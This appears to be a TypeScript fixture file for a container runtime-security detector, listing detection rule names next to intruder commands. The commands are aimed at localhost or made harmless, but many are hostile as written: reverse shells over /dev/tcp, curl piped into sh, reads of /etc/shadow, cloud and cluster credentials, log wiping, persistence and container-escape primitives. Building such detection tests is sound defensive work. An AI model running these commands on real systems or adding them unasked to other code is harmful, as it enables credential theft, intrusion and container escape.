/** What an intruder does, as a command line in a container, and the rule of ours that must say so. */
export interface Technique {
  readonly rule: string;
  readonly command: string;
}

const python = (code: string): string => `python3 -c '${code}'`;
/** Something that listens on a port of the container, waits for one connection and says nothing. */
const listener = (port: number): string =>
  `python3 -c 'import socket,time;s=socket.socket();s.setsockopt(1,2,1);s.bind(("127.0.0.1",${port}));s.listen();s.accept();time.sleep(1)' & sleep 0.4`;
/** A resolver that answers every question with 127.0.0.5. */
const resolver =
  'import socket;s=socket.socket(2,2);s.bind(("127.0.0.1",53));s.settimeout(3)\nfor i in range(2):\n d,a=s.recvfrom(512);e=d.index(0,12)+5;s.sendto(d[:2]+b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0"+d[12:e]+b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\x3c\\0\\4\\x7f\\0\\0\\5",a)';

/** Opens a file through io_uring: a ring with one request, which the kernel follows without a call for it. */
const throughRing = [
  'import ctypes,mmap,struct',
  'l=ctypes.CDLL(None);p=ctypes.create_string_buffer(120);f=l.syscall(425,4,p)',
  'at=lambda n:struct.unpack_from("I",p,40+n)[0]',
  'q=mmap.mmap(f,4096,offset=0);e=mmap.mmap(f,4096,offset=0x10000000)',
  'b=ctypes.create_string_buffer(b"/etc/shadow")',
  'e[0:48]=struct.pack("BBHiQQIIQQ",18,0,0,-100,0,ctypes.addressof(b),0,0,1,0)',
  'i=at(24);q[i:i+4]=struct.pack("I",0);i=at(4);q[i:i+4]=struct.pack("I",1)',
  'l.syscall(426,f,1,1,1,None,0)',
].join('\n');

/** For containers that are not privileged. */
export const plainTechniques: readonly Technique[] = [
  { rule: 'Service account token read', command: 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' },
  { rule: 'Passwords of accounts read', command: 'cat /etc/shadow' },
  { rule: 'Cloud credentials read', command: 'cat /root/.aws/credentials' },
  { rule: 'Kubeconfig or keys of the cluster read', command: 'cat /root/.kube/config' },
  { rule: 'Registry credentials read', command: 'cat /root/.docker/config.json' },
  { rule: 'Keys and passwords searched for', command: 'grep -r "BEGIN RSA" /root' },
  { rule: 'Private key read', command: 'cat /root/.ssh/id_rsa' },
  { rule: 'Environment of another process read', command: 'cat /proc/1/environ' },
  { rule: 'Passwords guessed with a tool', command: 'hydra -l root ssh://10.0.0.1' },
  { rule: 'Metadata service of the cloud asked', command: 'curl -m 1 http://169.254.169.254/latest/meta-data/' },
  { rule: 'Cloud client in container', command: 'aws s3 ls' },
  { rule: 'Socket of the container runtime used', command: 'curl --unix-socket /var/run/docker.sock http://d/info' },
  { rule: 'Kernel module loaded from container', command: 'insmod /tmp/rootkit.ko' },
  { rule: 'Container runtime overwritten', command: ': > /tmp/runc' },
  { rule: 'Files of the node reached from container', command: 'cat /proc/1/root/etc/passwd' },
  { rule: 'Root changed to a folder of the node', command: 'chroot /mnt true' },
  { rule: 'Known way to root tried', command: 'pkexec' },
  { rule: 'Program given the rights of its owner', command: 'cp /bin/true /tmp/suid; chmod u+s /tmp/suid' },
  { rule: 'Calls hidden in io_uring', command: python(throughRing) },
  { rule: 'Logs cleared', command: ': > /var/log/auth.log' },
  { rule: 'Logs cleared', command: 'rm /var/log/app.log' },
  { rule: 'History of commands cleared', command: 'rm /root/.bash_history' },
  { rule: 'Times of files forged', command: 'touch -r /etc/passwd /tmp/old' },
  { rule: 'Security tool stopped', command: 'pkill falco' },
  { rule: 'Program posing as a kernel thread', command: 'kworker' },
  { rule: 'Program posing as a system component', command: 'cp /bin/true /tmp/kubelet; /tmp/kubelet' },
  { rule: 'Account with a name of the system made', command: 'useradd systemd-helper' },
  { rule: 'Image built in container', command: 'buildah bud .' },
  { rule: 'Traffic sent through an anonymiser', command: 'tor' },
  {
    rule: 'Reverse shell over a socket',
    command: `${listener(4444)}; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" & sleep 0.5`,
  },
  {
    rule: 'Shell with its input from the network',
    command: `${listener(4445)}; bash -c "exec 3<>/dev/tcp/127.0.0.1/4445; sh <&3" & sleep 0.5`,
  },
  { rule: 'Command line of a reverse shell', command: 'bash -c "bash -i >& /dev/tcp/127.0.0.1/1 0>&1"' },
  { rule: 'Server started a shell', command: 'nginx -c "sh -c true; true"' },
  { rule: 'Server started a program of intruders', command: 'nginx -c "whoami; true"' },
  { rule: 'Terminal in container', command: 'script -qc "sh -c true" /dev/null' },
  { rule: 'Download handed to an interpreter', command: 'sh -c "curl -s http://127.0.0.1:1/x | sh"' },
  { rule: 'Encoded commands run', command: 'sh -c "echo dHJ1ZQ== | base64 -d | sh"' },
  {
    rule: 'Program run from memory',
    command: python(
      'import os;f=os.memfd_create("x");os.write(f,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%f,["x"])',
    ),
  },
  { rule: 'Program run from a folder for scratch files', command: 'cp /bin/true /tmp/dropped; /tmp/dropped' },
  { rule: 'Program that the image does not hold', command: 'cp /bin/true /opt/dropped; /opt/dropped' },
  { rule: 'Package manager in running container', command: 'apt-get --version' },
  { rule: 'Container client in container', command: 'kubectl get pods' },
  { rule: 'SSH server in container', command: 'sshd -D' },
  {
    rule: 'SSH server in container',
    command: python('import socket;s=socket.socket();s.bind(("127.0.0.1",2222));s.listen()'),
  },
  { rule: 'Tool against containers and clusters', command: 'kube-hunter --pod' },
  { rule: 'Miner started', command: 'xmrig --donate-level 1' },
  {
    rule: 'Mining pool contacted',
    command: `python3 -c '${resolver}' & sleep 0.4; curl -4 -m 1 http://pool.supportxmr.com:3333/; wait`,
  },
  { rule: 'Bandwidth sold', command: 'honeygain' },
  { rule: 'Tool that floods or wears out started', command: 'hping3 --flood 10.0.0.1' },
  { rule: 'Data destroyed', command: 'cp /etc/hosts /tmp/victim; shred /tmp/victim' },
  { rule: 'Backups on disk removed', command: 'rm /backup/data.bak' },
  { rule: 'Network scanned with a tool', command: 'nmap 10.0.0.0/24' },
  { rule: 'API server contacted with a tool', command: 'curl -k -m 1 https://127.0.0.1:6443/api/v1/secrets' },
  { rule: 'Kubelet contacted from container', command: 'curl -k -m 1 https://127.0.0.1:10250/pods' },
  { rule: 'Database of the control plane contacted', command: 'curl -m 1 http://127.0.0.1:2379/version' },
  { rule: 'Users and groups listed', command: 'getent passwd' },
  { rule: 'Services of the cluster looked up in DNS', command: 'dig SRV any.any.svc.cluster.local' },
  {
    rule: 'DNS asked past the cluster',
    command: python('import socket;s=socket.socket(2,2);s.connect_ex(("8.8.8.8",53))'),
  },
  { rule: 'SSH client in container', command: 'ssh root@10.0.0.1' },
  { rule: 'Exploit sent to a neighbour', command: 'sqlmap -u http://10.0.0.1/' },
  { rule: "Neighbours' addresses forged", command: 'ettercap -T' },
  { rule: 'Name resolution changed in container', command: 'echo 10.0.0.1 shop >> /etc/hosts' },
  { rule: 'Files carried out with a copying tool', command: 'curl -m 1 --upload-file /etc/hosts http://127.0.0.1:1/' },
  { rule: 'Data dumped', command: 'tar cf /tmp/all.tar /etc' },
  { rule: 'Data dumped', command: 'pg_dump shop' },
  { rule: 'Static pod manifest written', command: ': > /etc/kubernetes/manifests/evil.yaml' },
  { rule: 'Cron table written', command: 'echo "* * * * * root id" > /etc/cron.d/evil' },
  { rule: 'System service written', command: ': > /etc/systemd/system/evil.service' },
  { rule: 'Account made', command: 'useradd eve' },
  { rule: 'Account files written', command: 'echo eve:x:0:0::/:/bin/sh >> /etc/passwd' },
  { rule: 'SSH keys changed', command: 'echo key >> /root/.ssh/authorized_keys' },
  { rule: 'Start-up file of shells written', command: 'echo id >> /root/.bashrc' },
  { rule: 'Loader of programs bent', command: ': > /etc/ld.so.preload' },
  { rule: 'Server wrote a script to be served', command: 'nginx -c "echo x > /var/www/html/shell.php"' },
  { rule: 'Image sent to a registry from container', command: 'crane push image.tar registry.example.com/web:1' },
];

/** For a privileged container. None changes anything outside of it. */
export const privilegedTechniques: readonly Technique[] = [
  { rule: 'Seldom used door of the kernel opened', command: 'setpriv --reuid 1000 --clear-groups unshare -U true' },
  { rule: 'Device or folder mounted in container', command: 'mount -t tmpfs none /mnt' },
  { rule: 'Namespaces of the node entered', command: 'nsenter -t 1 -m true' },
  {
    rule: 'Namespace changed in container',
    command: 'perl -e \'open F, "</proc/1/ns/uts"; syscall(308, fileno(F), 0)\'',
  },
  {
    rule: "Control group's release agent set",
    command:
      'mount -t cgroup -o pids pids /mnt && mkdir /mnt/seawall-test && echo 1 > /mnt/seawall-test/notify_on_release; rmdir /mnt/seawall-test; umount /mnt',
  },
  // Opened for writing and closed again: nothing is changed.
  { rule: 'Kernel told to run a program', command: ': >> /proc/sys/kernel/core_pattern' },
  {
    rule: 'Disk of the node opened',
    command: 'fdisk -l /dev/vda',
  },
  {
    rule: "File opened past the file system's bounds",
    command: python(
      'import ctypes,os;l=ctypes.CDLL(None);h=ctypes.create_string_buffer(136);h[0]=128;m=ctypes.c_int();l.name_to_handle_at(-100,b"/usr/bin/true",h,ctypes.byref(m),0);d=os.open("/usr",0);print(l.open_by_handle_at(d,h,0))',
    ),
  },
  {
    rule: 'Process taken over by a debugger',
    command: `timeout -s KILL 2 sleep 1 & ${python('import ctypes,os,sys;l=ctypes.CDLL(None);print(l.ptrace(0x4206,int(sys.argv[1]),0,0))')} $!`,
  },
  {
    rule: 'Raw socket opened in container',
    command: python('import socket;socket.socket(17,3,768)'),
  },
];
